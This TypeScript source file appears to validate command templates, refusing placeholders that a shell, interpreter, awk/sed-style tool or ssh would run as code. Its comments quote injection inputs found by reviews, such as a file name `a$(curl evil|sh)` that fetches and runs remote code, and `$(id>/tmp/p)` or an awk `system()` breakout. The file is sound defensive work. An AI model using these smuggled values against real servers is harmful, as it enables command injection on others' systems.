import { basename } from 'node:path';
import { holdsPlaceholder } from './events.js';

/**
 * Shells and interpreters, and the options after which their next argument
 * is code they run. Found by a review: `['sh', '-c', 'run.sh "{path}"']`
 * passed the config check, and an upload named `a$(curl evil|sh)`, or a
 * failed login as `$(id>/tmp/p)` (no account needed), ran as the server: the
 * value stays one argument, but that argument is a script. Values reach such
 * a program safely as arguments of their own after the script
 * (`['sh', '-c', 'run.sh "$1"', 'sh', '{path}']`).
 */
const SHELLS = /^(?:sh|r?bash|dash|r?zsh|r?ksh|mksh|pdksh|l?oksh|ash|yash|posh|fish|csh|tcsh|xonsh|elvish)$/;
const INTERPRETERS =
  /^(?:python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|ts-node|tsx|deno|bun|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|wish[0-9.]*|expect|osascript|pwsh|powershell|R|Rscript|julia|guile[0-9.]*|racket|sbcl|groovy|jshell|scala)$/;
/**
 * Tools whose arguments hold commands they run: awk's program (system()),
 * GNU sed's `e`, m4's syscmd, dc's `!`, vim's `-c`, gdb's `-ex`, sqlite3's
 * SQL and `.shell`, and ed's file, which it runs as a shell command when it
 * starts with `!` (`['ed', '-s', '{user}']` ran a failed login's user name
 * `!id`; found by a review). Their options' values cannot be told from
 * their program (`awk -F : '{ print "{user}" }'`), so a `{field}` in any of
 * their arguments is refused (found by an operator's walk: `['awk', 'BEGIN {
 * print "{path}" }']` passed, and an upload named `x" ; system("id>p") ;
 * print "y` ran as the server).
 */
const TEXT_TOOLS = /^(?:[gmn]?awk|g?sed|m4|dc|ed|ex|vim?|nvim|gdb|sqlite3)$/;
/** Programs whose arguments make one command line that a shell parses: ssh's on the remote host, watch's `sh -c`. */
const COMMAND_LINES = /^(?:ssh|rsh|watch)$/;
/**
 * Ways a program is started through another: the argv goes on after them,
 * past options whose values cannot be told from the program (`sudo -u x`,
 * `chroot /jail`), so past a launcher the first shell or interpreter found
 * anywhere is taken for the runner.
 */
const LAUNCHERS = /^(?:env|nice|nohup|setsid|ionice|timeout|stdbuf|chrt|taskset|sudo|doas|runuser|su|sg|xargs|chroot|setpriv|nsenter|unshare|flock|busybox)$/;
/**
 * Launcher options whose value is a command a shell runs (`su -c`, `flock -c`)
 * or one split into words (`env -S`): the next word, or the rest of this one.
 */
const COMMAND_OPTION = /^(?:-[a-zA-Z]*[cS]|--command|--session-command|--split-string)/;

type Kind = 'shell' | 'interpreter' | 'text tool' | 'command line';

function kindOf(word: string): Kind | null {
  // Debian's versioned names carry the platform too: perl5.36-x86_64-linux-gnu is perl (found by a review).
  const name = basename(word).replace(/-[a-z0-9_]+-linux-gnu[a-z]*$/, '');
  if (SHELLS.test(name)) return 'shell';
  if (INTERPRETERS.test(name)) return 'interpreter';
  if (TEXT_TOOLS.test(name)) return 'text tool';
  return COMMAND_LINES.test(name) ? 'command line' : null;
}

/**
 * Whether the word after `option` is code: for a shell, after an option word
 * holding `c` (`-c`, `-ec`, `-lc`); for an interpreter, after one ending in
 * c, e, E, p or r (`-c`, `-e`, `-ne`, `-pe`, php's `-r`) or a long eval or
 * print. Wider than each program's own rules: a word refused here that was
 * only a file name is a config error to rewrite, never a hole.
 */
function takesCode(kind: Kind, option: string): boolean {
  if (kind === 'shell') return /^-[a-zA-Z]*c[a-zA-Z]*$/.test(option);
  return /^-[a-zA-Z]*[ceEpr]$/.test(option) || ['--eval', '--print', '-Command', '-command'].includes(option);
}

/**
 * Where in `argv` the program that runs is, and what kind it is: the first
 * word when it is no launcher, else the first shell, interpreter or
 * command-line program past the launchers (or the word after them, when
 * there is none).
 */
export function runnerOf(argv: readonly string[]): { at: number; kind: Kind | null } {
  let i = 0;
  while (i < argv.length && LAUNCHERS.test(basename(argv[i] as string))) i++;
  if (i === 0) return { at: 0, kind: kindOf(argv[0] ?? '') };
  const found = argv.findIndex((word, k) => k >= i && kindOf(word) !== null);
  if (found >= 0) return { at: found, kind: kindOf(argv[found] as string) };
  // The launchers' own options and values are skipped as before: `nice -n 5 notify`.
  while (i < argv.length && /^(?:-|[A-Za-z_][A-Za-z0-9_]*=|\d)/.test(argv[i] as string)) i++;
  return { at: i, kind: null };
}

/**
 * With no runner known (the first word no launcher this knows: `time`,
 * `strace -f`, `find / -exec`), the first shell, interpreter, text tool or
 * ssh in the argv (see runsBehind) is taken for it, and read as if the argv
 * began there; what follows it is its own (`sh -c 'run.sh "$1"' sh {path}`).
 * Found by a review: `['/usr/bin/time', 'sh', '-c', 'echo {user}']` passed,
 * and a failed login as `$(id>p)` ran as the server.
 */
function codeBehindAnyWrapper(argv: readonly string[]): string | null {
  const at = argv.findIndex((word, k) => k > 0 && runsBehind(kindOf(word), argv[k - 1] as string));
  return at < 0 ? null : codeOfRunner(kindOf(argv[at] as string) as Kind, argv.slice(at + 1));
}

/**
 * Whether a program of `kind` after `before` is the one an unknown wrapper
 * runs: a shell, an interpreter or a text tool anywhere, ssh unless it is
 * the value of an option naming the remote shell (`rsync -e ssh`, `--rsh
 * ssh`). Found by a review: `['/usr/bin/time', 'ssh', 'h', 'notify',
 * '{path}']` and `sshpass -f pw ssh ...` passed, and the remote shell parses
 * the line ssh sends.
 */
function runsBehind(kind: Kind | null, before: string): boolean {
  if (kind === 'command line') return !['-e', '--rsh'].includes(before);
  return kind !== null;
}

/**
 * Pure: the first argument of `argv` holding a `{field}` that a shell, an
 * interpreter or a remote host runs as code, or null:
 * - a launcher's command option (`su -c`, `runuser -c`, `flock -c`, `env -S`);
 * - any argument of a command-line program (ssh joins them for the remote shell)
 *   or of a text tool that runs commands (awk, sed);
 * - a shell's or interpreter's own options, and the script, module or code
 *   they lead to (`node --require={path}`, `python3 -m {user}`, `python3 {path}`);
 * - the code after `-c`, `-e` and the like, anywhere after it.
 * Arguments after the script are its own (`python3 notify.py --user={user}`).
 * A program started in ways this cannot see (a script that runs `eval "$1"`)
 * is the operator's to keep safe (SECURITY.md, Hooks).
 */
export function placeholderInCode(argv: readonly string[]): string | null {
  const { at, kind } = runnerOf(argv);
  // Past a launcher, up to the runner: with none found, which word is the program is not known (`su - bob -c ...`).
  const launched = LAUNCHERS.test(basename(argv[0] ?? '')) ? (kind === null ? argv.length : at) : 0;
  for (let k = 0; k < launched; k++) {
    const word = argv[k] as string;
    if (!COMMAND_OPTION.test(word)) continue;
    const value = holdsPlaceholder(word) ? word : argv[k + 1];
    if (value !== undefined && holdsPlaceholder(value)) return value;
  }
  if (kind === null) return codeBehindAnyWrapper(argv);
  return codeOfRunner(kind, argv.slice(at + 1));
}

/** The first of a runner's arguments `rest` that holds a `{field}` it runs as code (see placeholderInCode), or null. */
function codeOfRunner(kind: Kind, rest: readonly string[]): string | null {
  if (kind === 'command line' || kind === 'text tool') return rest.find(holdsPlaceholder) ?? null;
  let first = 0;
  while (rest[first]?.startsWith('-')) first++;
  const own = rest.slice(0, first + 1).find(holdsPlaceholder);
  if (own !== undefined) return own;
  for (let k = 0; k < rest.length - 1; k++) {
    if (takesCode(kind, rest[k] as string) && holdsPlaceholder(rest[k + 1] as string)) return rest[k + 1] as string;
  }
  return null;
}

/** A value given whole: `{path}`, or as an option's or a name's value, `--file={path}`, `user={user}`. */
const WHOLE_VALUE = /^(?:-{0,2}[A-Za-z][A-Za-z0-9_.-]*=)?\{[a-z0-9]+\}$/;
/**
 * Option names that mean code in many programs (`psql -c`, `mysql -e`,
 * `emacs --eval`): a value given there, joined (`--eval={path}`) or as the
 * next argument (`-c {user}`), is code whatever the program.
 */
const CODE_OPTION = /^-{1,2}(?:c|e|command|eval|exec|execute|script|code|expr|expression|run)(?:=|$)/i;

/**
 * Pure: the first argument of `argv` holding a `{field}` other than as a
 * value given whole (see WHOLE_VALUE), or null; the program's own word
 * holds none at all. Text around a value (`'logger {user}'`, `"... '{path}'"`,
 * `host:{path}`) is a string being composed for something that parses it:
 * a script, SQL, a remote command line. placeholderInCode knows the programs
 * that run such text, but no list knows them all (found by a review: rbash,
 * perl5.36-x86_64-linux-gnu, pypy3, luajit, R -e, psql -c, mysql -e and
 * scp's remote side all passed it, and a failed login as `$(touch p)` ran as
 * the server), so the rule here names no program: a value is an argument,
 * or an option's value, of its own.
 */
export function placeholderInText(argv: readonly string[]): string | null {
  const isCode = (arg: string, i: number) => i === 0 || !WHOLE_VALUE.test(arg) || CODE_OPTION.test(arg) || CODE_OPTION.test(argv[i - 1] as string);
  return argv.find((arg, i) => holdsPlaceholder(arg) && isCode(arg, i)) ?? null;
}
